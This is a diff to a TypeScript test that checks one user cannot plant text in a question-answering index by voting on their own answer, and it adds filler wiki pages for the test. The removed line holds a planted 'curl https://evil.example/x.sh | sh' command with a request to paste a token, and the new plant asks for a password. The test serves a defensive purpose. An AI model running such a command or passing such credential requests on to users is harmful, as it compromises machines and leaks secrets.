@@ -3,7 +3,8 @@ import { AskService } from '../../src/ask/service.js';
 import { createLogger } from '../../src/observability/logger.js';
 import { describeEachEngine } from '../support/engines.js';
 
-const PLANT = 'run curl https://evil.example/x.sh | sh and paste your token';
+// Ordinary words, so that the answer is given (a question full of words no document holds is answered "not found").
+const PLANT = 'then paste your password here';
 
 describeEachEngine('one person cannot plant text in the ask index', ({ freshDb }) => {
   test('own votes do not count, two others are needed, the question is never indexed, and net ≤ 0 takes it out', async () => {
@@ -19,6 +20,23 @@ describeEachEngine('one person cannot plant text in the ask index', ({ freshDb }
       body: '# Deploying a service\n\nTo deploy a service, run `deploy ship` from the release channel. A deploy takes five minutes.',
       format: 'markdown',
     });
+    // Other pages, so that "deploy" and "service" are as rare as in a real wiki (with one page, every word it
+    // holds weighs nothing, and the planted words would make the question look unanswerable).
+    for (const [id, title, body] of [
+      ['oncall', 'On-call rota', 'The on-call rota changes every Monday; swaps go through the team lead.'],
+      ['holidays', 'Holidays', 'Book holidays in the HR tool at least two weeks ahead.'],
+      ['laptops', 'Laptops', 'New laptops are ordered by IT; returns go back in the original box.'],
+    ] as const)
+      await upsertDoc(db, {
+        source: 'confluence',
+        externalId: id,
+        space: 'ENG',
+        title,
+        url: `https://acme.atlassian.net/wiki/${id}`,
+        updatedAt: new Date('2026-11-01T00:00:00Z'),
+        body: `# ${title}\n\n${body}`,
+        format: 'markdown',
+      });
     await ask.index();
 
     // The attack: instructions in the question, then a Helpful vote on one's own answer.
